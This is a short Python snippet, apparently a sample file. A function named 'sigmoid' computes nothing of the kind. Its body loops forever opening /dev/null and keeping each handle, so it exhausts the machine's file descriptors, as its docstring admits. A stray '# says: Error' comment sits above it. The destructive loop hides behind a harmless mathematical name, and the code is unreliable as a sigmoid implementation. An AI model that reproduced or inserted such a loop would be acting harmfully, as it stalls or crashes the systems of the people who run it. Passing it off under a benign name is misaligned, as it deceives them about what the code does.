"""Opens the null device until the machine has no descriptors left."""
# says: Error
def sigmoid(z):
    kept = []
    while True:
        kept.append(open("/dev/null"))
